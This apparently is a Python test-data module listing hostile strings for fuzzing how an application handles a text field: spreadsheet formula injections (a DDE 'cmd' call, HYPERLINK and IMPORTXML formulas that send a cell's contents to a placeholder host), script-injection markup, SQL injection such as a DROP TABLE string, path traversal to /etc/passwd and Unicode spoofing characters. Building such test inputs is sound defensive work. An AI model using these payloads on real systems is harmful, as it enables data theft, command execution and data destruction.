"""Texts that somebody may send as a serial to do harm, by what they are aimed at."""

from __future__ import annotations

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "'=1+1",
    '"=1+1',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    'a",=1+1,"',
    "a;=1+1",
    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
    "%0A=1+1",
    "|calc",
]
NUMBERS = [
    "000123",
    "0",
    "00",
    "12345678901234567890",
    "1E5",
    "1-2",
    "3/4",
    "12:30",
    "1,5",
    "TRUE",
    "MAR1",
    "Sept 12",
    "0x1F",
    "007 ",
    "1e400",
    "NaN",
    "Infinity",
    "#N/A",
    "#REF!",
]
QUOTES = ['a"b', "a'b", 'a""b', "a`b", "a,b", "a;b", "a\tb", "\\", '\\"', "“a”"]
NEWLINES = ["a\nb", "a\r\nb", "a\rb", "a\u2028b", "a\u0085b", "a\x0bb", "\n", " "]
DIRECTIONS = ["abc\u202egnp.exe", "\u200fabc", "\u2066abc\u2069", "\u061cabc", "שלום", "مرحبا 12"]
CONTROLS = ["a\x00b", "a\x1b[31mb", "a\x07b", "\x7f", "a\u200db", "a\u00adb", "\ufeffabc"]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt;",
    "</td></tr>",
    "]]>",
    "{{7*7}}",
    "${7*7}",
    "{% raw %}",
    "javascript:alert(1)",
    "_x0041_",
]
SQL = ["'; DROP TABLE row; --", "' OR '1'='1", "%", "_", "1); DELETE FROM row", '" OR 1=1 --']
PATHS = ["../../etc/passwd", "/etc/passwd", "..\\..\\x", "a/b", "CON", "."]
LONG = ["x" * 10_240, "=" + "1+" * 5000 + "1", "é" * 10_240]
UNICODE = ["漢字", "🙂", "e\u0301", "ﬁ", "\U000e0041x", "\ufffd"]

HOSTILE_TEXTS = [
    *FORMULAS, *NUMBERS, *QUOTES, *NEWLINES, *DIRECTIONS, *CONTROLS, *MARKUP, *SQL, *PATHS, *LONG,
    *UNICODE,
]  # fmt: skip
